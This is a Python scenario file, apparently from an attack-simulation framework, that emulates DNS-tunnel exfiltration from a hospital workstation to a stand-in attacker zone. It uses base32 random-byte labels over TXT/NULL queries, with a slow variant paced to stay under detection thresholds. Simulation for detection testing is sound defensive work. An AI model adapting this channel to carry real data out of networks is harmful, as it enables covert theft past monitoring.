"""Data are carried out in names that are asked for (ATT&CK T1071.004, T1572): through the hospital's resolver to the attacker's server.

The names are pieces of made-up bytes in base 32, as iodine and dnscat2 write them; the answers are TXT or NULL records and nobody connects
anywhere afterwards. Loud: 240 different names in about two minutes. Slow: 70 in an hour, below 100, for three hours. null: the same as
loud with NULL records.
"""

from __future__ import annotations

import base64
import random

from acts.office import look_up
from scenario import Scenario, Script

FROM, PEERS, ZONE = "ward-ws1", ("ns",), "t.tunnel.example"
BEYOND = (("ns", "attacker-names"),)
PIECE_BYTES = 35
LOUD_NAMES, AT_ONCE, LOUD_S = 240, 8, 4
SLOW_NAMES, SLOW_S = 210, 51


def names(script: Script, count: int) -> list[str]:
    """56 letters in a label and a counter, all different."""
    dice = random.Random(f"{script.seed}tunnel{script.variant}")
    pieces = (base64.b32encode(dice.randbytes(PIECE_BYTES)).decode().lower() for _ in range(count))
    return [f"{piece}.{number:04x}.{ZONE}" for number, piece in enumerate(pieces)]


def carry(script: Script, count: int, at_once: int, seconds: float, kind: str) -> None:
    told = names(script, count)
    for first in range(0, count, at_once):
        doing = look_up(told[first : first + at_once], kind)
        script.act(FROM, "names asked for", doing, *PEERS, beyond=BEYOND)
        script.wait(seconds)


def loud(script: Script) -> None:
    carry(script, LOUD_NAMES, AT_ONCE, LOUD_S, "TXT")


def null(script: Script) -> None:
    carry(script, LOUD_NAMES, AT_ONCE, LOUD_S, "NULL")


def slow(script: Script) -> None:
    carry(script, SLOW_NAMES, 1, SLOW_S, "TXT")


SCENARIO = Scenario(
    name="dns-tunnel",
    title="Data are carried out in names",
    technique=("T1071.004", "T1572"),
    variants={"loud": loud, "null": null, "slow": slow},
    row="DNS tunnel",
)
